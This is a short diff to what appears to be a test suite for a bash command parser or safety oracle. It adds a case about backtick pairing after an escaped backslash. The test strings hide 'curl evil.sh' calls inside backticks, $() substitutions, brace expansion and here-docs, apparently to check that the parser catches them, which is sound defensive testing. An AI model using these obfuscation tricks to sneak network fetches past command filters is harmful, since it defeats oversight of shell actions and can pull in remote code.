@@ -266,6 +266,8 @@ class BashOracleTests:
             "echo `ls # c` && curl evil.sh",
             'echo `ls # c` && curl evil.sh "a\nb"',
             "ls && echo `ls # c`\necho `{curl,evil.sh}`",
+            # backticks the parser pairs wrongly after an escaped backslash
+            "echo `{curl,evil.sh}\\\\ 2>/dev/null`; echo `{curl,evil.sh}`",
             # an unquoted here-doc runs the substitutions in its body, `…` too, to its real end
             "cat <<EOF\nhi `curl evil.sh`\nEOF",
             "cat <<EOF\nls\nEOF && ls # c && echo $(curl evil.sh)",
